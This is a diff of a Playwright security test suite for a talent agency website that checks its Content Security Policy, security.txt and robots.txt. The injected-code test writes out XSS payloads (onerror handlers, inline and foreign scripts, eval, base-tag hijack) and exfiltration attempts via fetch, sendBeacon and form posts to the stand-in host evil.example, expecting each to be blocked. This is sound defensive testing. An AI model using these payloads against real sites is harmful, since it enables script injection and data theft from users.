@@ -1,7 +1,7 @@
 /** What an attacker can reach: what is answered, and what pages may load. */
 import { SECURITY_HEADERS } from '../../src/gateway/security-headers.ts';
 import { pagesOf } from './support/pages.ts';
-import { allTalents } from './support/talents.ts';
+import { talentNamed } from './support/talents.ts';
 import { expect, test } from './support/test.ts';
 
 /** One of every kind of page; then the other language, and addresses that are none, the last of which a function answers. */
@@ -67,12 +67,12 @@ test('No page loads anything from other hosts before a press', { tag: ['@desktop
   page.on('request', (request) => {
     if (new URL(request.url()).origin !== baseURL && !isOurs(request.url())) foreign.push(`${page.url()}: ${request.url()}`);
   });
-  const [talent] = await allTalents(page);
+  const { id } = await talentNamed(page, 'Açucena Vilar');
   // One of every kind that shows pictures or films, and what is opened by an address: the policy leaves nothing else to other hosts.
   for (const path of [
     '/',
     '/modelos#T',
-    `/modelos/${talent?.id ?? ''}#video`,
+    `/modelos/${id}#video`,
     '/contato#fale',
     '/favoritos#ids=1001,1002',
     '/sobre-nos',
@@ -93,87 +93,83 @@ test('No page loads anything from other hosts before a press', { tag: ['@desktop
   expect(await page.context().cookies()).toEqual([]);
 });
 
-test.describe('files for programs', { tag: ['@desktop', '@en'] }, () => {
-  test('reads where to report a vulnerability', async ({ request }) => {
+test(
+  'Programs read where to report a vulnerability, and that faces are not there to be gathered',
+  { tag: ['@desktop', '@en'] },
+  async ({ request }) => {
     const answer = await request.get('/.well-known/security.txt');
     expect([answer.status(), answer.headers()['content-type']]).toEqual([200, 'text/plain; charset=utf-8']);
     expect(await answer.text()).toMatch(/^Contact: mailto:ola@amazing\.example$[^]*^Expires: \d{4}-\d\d-01T00:00:00Z$/m);
-  });
-
-  test('reads that faces are not there to be gathered', async ({ request }) => {
     expect(await (await request.get('/robots.txt')).text()).toMatch(/^User-agent: GPTBot$[^]*^Disallow: \/$/m);
+  },
+);
+
+test('injected code does not run, load or send anything', { tag: ['@desktop', '@en'] }, async ({ page, expectedErrors }) => {
+  expectedErrors.push(/Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/);
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) asked.push(request.url());
   });
-});
-
-test.describe('injected code', { tag: ['@desktop', '@en'] }, () => {
-  test.use({ expectedErrors: [/Content Security Policy|TrustedHTML|TrustedScript|Failed to load resource/] });
-
-  test('does not run, load or send anything', async ({ page }) => {
-    const asked: string[] = [];
-    page.on('request', (request) => {
-      if (request.url().includes('evil.example')) asked.push(request.url());
-    });
-    await page.goto('/en/models');
-    const outcomes = await page.evaluate(async () => {
-      const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
-        const element = document.createElement(tag);
-        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
-        if (text !== '') element.append(text);
-        document.body.append(element);
-        return element;
-      };
-      const attempts: Readonly<Record<string, () => unknown>> = {
-        handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
-        script: () => add('script', {}, 'window.hacked = 1'),
-        foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
-        markup: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<img src=x onerror="window.hacked = 1">'),
-        // Later, because what a test calls at once may evaluate anything.
-        code: () =>
-          new Promise<void>((resolve, reject) => {
-            setTimeout(() => {
-              try {
-                (0, eval)('window.hacked = 1');
-                resolve();
-              } catch (error) {
-                reject(error instanceof Error ? error : new Error());
-              }
-            });
-          }),
-        style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
-        sheet: () => getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id).outlineWidth,
-        frame: () => add('iframe', { src: 'https://evil.example/' }),
-        plugin: () => add('object', { data: 'https://evil.example/' }),
-        base: () => {
-          add('base', { href: 'https://evil.example/' });
-          return document.baseURI;
-        },
-        send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
-        beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
-        form: () => {
-          const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement;
-          form.submit();
-        },
-      };
-      const results: Record<string, string> = {};
-      for (const [name, attempt] of Object.entries(attempts)) {
-        try {
-          const result: unknown = await attempt();
-          results[name] = typeof result === 'string' ? result : 'silent';
-        } catch (error) {
-          results[name] = error instanceof Error ? error.name : 'error';
-        }
+  await page.goto('/en/models');
+  const outcomes = await page.evaluate(async () => {
+    const add = (tag: string, attributes: Readonly<Record<string, string>>, text = '') => {
+      const element = document.createElement(tag);
+      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+      if (text !== '') element.append(text);
+      document.body.append(element);
+      return element;
+    };
+    const attempts: Readonly<Record<string, () => unknown>> = {
+      handler: () => add('img', { src: 'data:,', onerror: 'window.hacked = 1' }),
+      script: () => add('script', {}, 'window.hacked = 1'),
+      foreignScript: () => add('script', { src: 'https://evil.example/a.js' }),
+      markup: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<img src=x onerror="window.hacked = 1">'),
+      // Later, because what a test calls at once may evaluate anything.
+      code: () =>
+        new Promise<void>((resolve, reject) => {
+          setTimeout(() => {
+            try {
+              (0, eval)('window.hacked = 1');
+              resolve();
+            } catch (error) {
+              reject(error instanceof Error ? error : new Error());
+            }
+          });
+        }),
+      style: () => getComputedStyle(add('p', { style: 'position: fixed' })).position,
+      sheet: () => getComputedStyle(document.body, add('style', {}, 'body { outline: 9px solid }').id).outlineWidth,
+      frame: () => add('iframe', { src: 'https://evil.example/' }),
+      plugin: () => add('object', { data: 'https://evil.example/' }),
+      base: () => {
+        add('base', { href: 'https://evil.example/' });
+        return document.baseURI;
+      },
+      send: () => fetch('https://evil.example/', { method: 'POST', body: 'x' }),
+      beacon: () => navigator.sendBeacon('https://evil.example/b', 'x'),
+      form: () => {
+        const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement;
+        form.submit();
+      },
+    };
+    const results: Record<string, string> = {};
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try {
+        const result: unknown = await attempt();
+        results[name] = typeof result === 'string' ? result : 'silent';
+      } catch (error) {
+        results[name] = error instanceof Error ? error.name : 'error';
       }
-      return results;
-    });
-    expect(outcomes).toMatchObject({ markup: 'TypeError', code: expect.stringMatching(/Error$/), send: 'TypeError' });
-    expect(outcomes).toMatchObject({
-      style: 'static',
-      sheet: expect.not.stringContaining('9px'),
-      base: expect.not.stringContaining('evil'),
-    });
-    await page.waitForTimeout(300);
-    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
-    expect(asked).toEqual([]);
-    expect(page.url()).toMatch(/\/en\/models$/);
+    }
+    return results;
   });
+  expect(outcomes).toMatchObject({ markup: 'TypeError', code: expect.stringMatching(/Error$/), send: 'TypeError' });
+  expect(outcomes).toMatchObject({
+    style: 'static',
+    sheet: expect.not.stringContaining('9px'),
+    base: expect.not.stringContaining('evil'),
+  });
+  await page.waitForTimeout(300);
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  expect(asked).toEqual([]);
+  expect(page.url()).toMatch(/\/en\/models$/);
 });
